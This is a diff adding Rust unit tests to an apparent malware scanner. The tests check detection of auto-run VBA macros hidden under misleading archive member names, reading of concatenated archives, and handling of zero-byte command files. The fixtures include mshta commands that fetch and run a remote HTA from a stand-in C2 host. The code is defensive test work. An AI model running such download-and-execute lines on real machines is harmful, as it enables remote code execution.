@@ -98,6 +98,45 @@ fn a_macro_that_starts_a_downloader_by_itself_is_malicious() {
 }
 
 #[test]
+fn a_project_under_the_name_of_a_text_is_read() {
+    let project = strongroom_files::write_vba_project(&[("Module1", "Sub AutoOpen()\nMsgBox 1\nEnd Sub\n")]);
+    for name in ["word/styles.xml", "custom/item1.xml"] {
+        let members: [(&str, &[u8]); 2] = [("[Content_Types].xml", TYPES.as_bytes()), (name, &project)];
+        let report = examine("d.docm", &archive(&members, SimpleFileOptions::default()));
+        assert!(codes(&report).contains(&"macro.auto-run".to_owned()), "{name}");
+    }
+}
+
+#[test]
+fn both_of_two_archives_in_a_row_are_read() {
+    let options = SimpleFileOptions::default();
+    let first = archive(
+        &[("run.bat", b"@echo off\r\nmshta https://c2.example/a.hta\r\n")],
+        options,
+    );
+    let report = examine(
+        "x.zip",
+        &[first, archive(&[("note.txt", b"hello")], options)].concat(),
+    );
+    let names: Vec<&str> = report
+        .children
+        .iter()
+        .map(|child| child.evidence.name.as_str())
+        .collect();
+    assert_eq!(names, ["run.bat", "note.txt"]);
+    assert!(report.verdict() >= Verdict::Suspicious);
+}
+
+#[test]
+fn a_short_command_with_a_zero_byte_is_not_cleared() {
+    assert_eq!(
+        examine("a.cmd", b"\0\r\nmshta a.example/x").verdict(),
+        Verdict::NotCleared
+    );
+    assert_eq!(examine("a.bin", &[1, 2, 3, 0, 200, 7]).verdict(), Verdict::Clean);
+}
+
+#[test]
 fn what_a_button_starts_weighs_less_than_what_runs_by_itself() {
     let macros = "Sub AutoOpen()\n  x = 1\nEnd Sub\nSub Button1_Click()\n  Shell \"notepad.exe\"\nEnd Sub\n";
     let report = examine("d.docm", &document(macros));
